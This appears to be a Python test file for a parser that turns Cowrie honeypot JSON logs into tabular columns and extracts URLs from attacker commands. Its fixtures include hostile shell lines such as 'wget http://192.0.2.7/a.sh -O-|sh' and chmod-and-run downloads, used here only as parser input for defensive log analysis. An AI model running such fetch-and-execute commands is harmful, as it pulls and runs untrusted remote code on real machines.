"""Cowrie's events under our columns."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.strategies.cowrie_logs import Row, connect, cowrie, download, lines, login
from tests.strategies.source_files import Whole, read_whole

from tocsin.engine.sources.cowrie import COWRIE, is_cowrie
from tocsin.engine.sources.cowrie_urls import first_url, split_url
from tocsin.engine.sources.json_kinds import BY_RULES


def read(folder: Path, *rows: Row) -> Whole:
    path = folder / "cowrie.json"
    path.write_bytes(lines(rows))
    return read_whole(path, COWRIE)


def test_a_connection_is_an_observation_and_all_else_is_for_the_rules(tmp_path: Path) -> None:
    whole = read(tmp_path, connect(1, "a", 1001), login(2, "a"))
    kinds = [(targets, observation) for _, targets, observation, *_ in whole.rows]
    assert kinds == [((), "connection"), BY_RULES]


def test_a_login_has_the_columns_of_its_report_type(tmp_path: Path) -> None:
    version = cowrie("client.version", 1, "a", version="SSH-2.0-Go", macCS=["x", "y"])
    whole = read(tmp_path, connect(1, "a", 1001), version, login(2.5, "a"))
    assert whole.cells[2] == {
        "event_id": "cowrie.login.failed",
        "timestamp": "2026-11-22T00:00:02.500000Z",
        "start_time": "2026-11-22T00:00:01.000000Z",
        "src_ip": "192.0.2.10",
        "src_port": "1001",
        "dst_ip": "203.0.113.5",
        "dst_port": "2222",
        "protocol": "tcp",
        "service": "ssh",
        "client_version": "SSH-2.0-Go",
        "username": "root",
        "password": "x",
        "session": "a",
        "session_tags": "cowrie.login.failed",
    }
    assert whole.cells[1]["macCS"] == "x;y"


def test_a_forwarded_connection_is_kept_apart_from_the_attackers(tmp_path: Path) -> None:
    ends = {"dst_ip": "198.51.100.9", "dst_port": 80, "src_port": 8080}
    older = cowrie("direct-tcpip.request", 2, "a", **ends)
    newer = cowrie("direct-tcpip.request", 3, "a", **{**ends, "src_ip": "127.0.0.1"})
    whole = read(tmp_path, connect(1, "a", 1001), older, newer)
    for cells in whole.cells[1:]:
        assert (cells["src_ip"], cells["src_port"]) == ("192.0.2.10", "1001")
        assert (cells["dst_ip"], cells["dst_port"]) == ("203.0.113.5", "2222")
        assert cells["forward_ip"] == "198.51.100.9"
        assert (cells["forward_port"], cells["forward_src_port"]) == ("80", "8080")


def test_the_service_is_told_by_what_wrote_the_row_where_the_session_is_not_known(
    tmp_path: Path,
) -> None:
    ssh = "SSHService 'ssh-userauth' on HoneyPotSSHTransport,2554,192.0.2.10"
    rows = [login(1, "a", system=ssh), login(2, "b", system="CowrieTelnetTransport,7,192.0.2.10")]
    whole = read(tmp_path, *rows, login(3, "c"))
    assert [cells.get("service") for cells in whole.cells] == ["ssh", "telnet", None]
    assert whole.notes["session_unknown"] == 3


def test_events_of_the_first_versions_are_called_as_they_are_today(tmp_path: Path) -> None:
    rows = [
        {**connect(1, "a", 1001), "eventid": "KIPP0001"},
        {**login(2, "a"), "eventid": "KIPP0003"},
    ]
    whole = read(tmp_path, *rows)
    assert [cells["event_id"] for cells in whole.cells] == [
        "cowrie.session.connect",
        "cowrie.login.failed",
    ]
    assert whole.cells[1]["src_port"] == "1001"


def test_a_line_that_is_no_event_of_cowries_is_rejected_with_its_line(tmp_path: Path) -> None:
    whole = read(tmp_path, connect(1, "a", 1001), {"src_ip": "192.0.2.10"}, login(2, "a"))
    assert whole.reasons == [(2, "no_event")]
    assert whole.lines == [1, 3]


def test_lines_that_are_no_json_are_rejected_as_ever(tmp_path: Path) -> None:
    path = tmp_path / "cowrie.json"
    path.write_bytes(lines([connect(1, "a", 1001)]) + b"{cut\n" + lines([login(2, "a")]))
    whole = read_whole(path, COWRIE, slice_records=1)
    assert whole.reasons == [(2, "bad_json")]
    assert whole.cells[1]["src_port"] == "1001"


# --- URLs -----------------------------------------------------------------------------------


def test_a_download_and_a_command_name_the_host_they_load_from(tmp_path: Path) -> None:
    command = cowrie("command.input", 2, "a", input="cd /tmp; wget http://198.51.100.7:8080/33")
    loaded = download(3, "a", "https://load.example.org/x")
    plain = cowrie("command.input", 4, "a", input="uname -a")
    whole = read(tmp_path, connect(1, "a", 1001), command, loaded, plain)
    names = ("url", "url_scheme", "hostname", "ip", "port", "source", "sha256")
    assert [[cells.get(name) for name in names] for cells in whole.cells[1:]] == [
        [
            "http://198.51.100.7:8080/33",
            "http",
            "198.51.100.7",
            "198.51.100.7",
            "8080",
            "honeypot",
            None,
        ],
        [
            "https://load.example.org/x",
            "https",
            "load.example.org",
            None,
            "443",
            "honeypot",
            "e3b0c442",
        ],
        [None] * 7,
    ]
    assert whole.cells[1]["command"] == "cd /tmp; wget http://198.51.100.7:8080/33"


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("wget http://192.0.2.7/a.sh -O-|sh", "http://192.0.2.7/a.sh"),
        ("wget http://192.0.2.7/a&chmod +x a", "http://192.0.2.7/a"),
        ('curl "http://192.0.2.7/a?b=1&c=2"', "http://192.0.2.7/a?b=1&c=2"),
        ("(tftp://192.0.2.7/x;ftp://192.0.2.8/y)", "tftp://192.0.2.7/x"),
        ("HTTP://192.0.2.7/A", "HTTP://192.0.2.7/A"),
        ("wget 192.0.2.7/a.sh", None),
        ("echo http://", None),
    ],
)
def test_the_first_url_of_a_command_is_found(command: str, url: str | None) -> None:
    assert first_url(command) == url


@pytest.mark.parametrize(
    ("url", "parts"),
    [
        ("http://192.0.2.7/a", ("http", "192.0.2.7", "192.0.2.7", 80)),
        ("HTTPS://Example.ORG:8443/a", ("https", "example.org", "", 8443)),
        ("ftp://user:word@192.0.2.7/a", ("ftp", "192.0.2.7", "192.0.2.7", 21)),
        ("http://[2001:db8::7]:81/a", ("http", "2001:db8::7", "2001:db8::7", 81)),
        ("http://3221225991/a", ("http", "3221225991", "", 80)),
    ],
)
def test_a_url_is_taken_apart(url: str, parts: tuple[str, str, str, int]) -> None:
    found = split_url(url)
    assert found is not None
    assert (found.scheme, found.host, found.address, found.port) == parts


@pytest.mark.parametrize(
    "url", ["", "stdin", "file:///x", "http://", "http://[::1/a", "http://a:x/"]
)
def test_what_is_no_url_of_a_host_is_not_taken_apart(url: str) -> None:
    assert split_url(url) is None


@given(st.text(max_size=60))
def test_whatever_an_attacker_types_is_read(text: str) -> None:
    found = first_url(f"wget http://{text}")
    assert found is None or f"http://{text}".startswith(found)
    split_url(text)
    split_url(f"http://{text}")


# --- being told -----------------------------------------------------------------------------


def test_a_line_of_cowries_is_told_from_others() -> None:
    assert is_cowrie(json.dumps(login(1, "a")).encode())
    assert is_cowrie(b'{"eventid": "KIPP0001", "session": "a"}')
    for other in (b"", b"{}", b'{"eventid": "x", "session": "a"}', b"\xff", b'{"session": "a"}'):
        assert not is_cowrie(other)
    declared = {**login(1, "a"), "report_type": "event4_sinkhole"}
    assert not is_cowrie(json.dumps(declared).encode())
